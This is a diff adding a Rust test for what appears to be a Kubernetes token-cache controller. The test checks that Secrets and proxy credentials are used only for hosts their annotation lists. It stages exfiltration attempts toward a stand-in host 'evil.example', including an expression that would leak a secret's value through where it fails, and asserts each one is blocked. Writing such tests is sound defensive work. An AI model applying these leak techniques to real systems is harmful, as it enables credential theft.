@@ -115,3 +115,55 @@ async fn a_name_is_found_however_it_is_written_and_the_server_sees_the_urls_path
         assert_eq!(server.seen().pop().unwrap().target, target, "{url}");
     }
 }
+
+#[tokio::test]
+async fn a_secret_is_used_only_for_the_hosts_that_its_owner_lists() {
+    let server = Server::start(token).await;
+    let lookup = names(&[("id.example.com", &[&["127.0.0.1"]]), ("evil.example", &[&["127.0.0.1"]])]);
+    let world = World { lookup, ..World::new() };
+    let port = server.address.port();
+    let url = |host: &str| format!("http://{host}:{port}/token?x=hidden");
+    let limit = |name: &str, hosts: &str, data: &[(&str, &str)]| {
+        world.objects.secret(name, data);
+        let mut objects = world.objects.0.lock().unwrap();
+        let secret = objects.get_mut(&format!("/api/v1/namespaces/b/secrets/{name}")).unwrap();
+        secret["metadata"]["annotations"] = json!({"tokencache.dev/hosts": hosts});
+    };
+    limit("client", "id.example.com other.example", &[("secret", SECRET)]);
+    limit("login", "127.0.0.1", &[("username", "u"), ("password", "p")]);
+    let proxy = json!({"url": format!("http://127.0.0.1:{port}"), "credentialsRef": {"name": "login"}});
+
+    assert_token(world.fetch(&cache(&url("id.example.com"), json!({}))).await);
+    let asked = server.seen().len();
+    let not_listed = format!("its annotation tokencache.dev/hosts does not list that host");
+    let words = |host: &str| ["Secret b/client", &not_listed].map(str::to_owned).into_iter().chain([host.to_owned()]);
+    for (host, change, wanted) in [
+        ("evil.example", json!({}), format!("evil.example:{port}")),
+        // Which proxy is used, the spec says, and by which certificates it is believed.
+        ("id.example.com", json!({"proxy": proxy.clone()}), format!("127.0.0.1:{port}")),
+        ("evil.example", json!({"clientAuth": "Post"}), format!("evil.example:{port}")),
+        ("evil.example", json!({"clientIdRef": {"name": "client", "key": "secret"}, "clientId": null}), "evil".into()),
+    ] {
+        let fetched = world.fetch(&cache(&url(host), change)).await;
+        let words: Vec<String> = words(&wanted).collect();
+        let words: Vec<&str> = words.iter().map(String::as_str).collect();
+        assert_failed(fetched, Reason::SourceNotAllowed, &words);
+    }
+    // An expression must not tell what the Secret holds either, by where it fails.
+    let http = json!({
+        "url": url("evil.example"), "secrets": {"s": {"name": "client", "key": "secret"}},
+        "headers": [{"name": "x", "expression": "secrets.s < 'm' ? 'x' : string(1/0)"}],
+        "result": {"token": "response.body"},
+    });
+    let mut oracle = cache(&url("evil.example"), json!({}));
+    oracle.spec.fetch = serde_json::from_value(json!({ "http": http })).unwrap();
+    assert_failed(world.fetch(&oracle).await, Reason::SourceNotAllowed, &[&not_listed]);
+    assert_eq!(server.seen().len(), asked, "nothing was sent");
+
+    // The credentials of a proxy go to that alone.
+    limit("client", "id.example.com 127.0.0.1", &[("secret", SECRET)]);
+    assert_token(world.fetch(&cache(&url("id.example.com"), json!({ "proxy": proxy.clone() }))).await);
+    limit("login", "proxy.example", &[("username", "u"), ("password", "p")]);
+    let fetched = world.fetch(&cache(&url("id.example.com"), json!({ "proxy": proxy }))).await;
+    assert_failed(fetched, Reason::SourceNotAllowed, &["Secret b/login", &format!("127.0.0.1:{port}")]);
+}
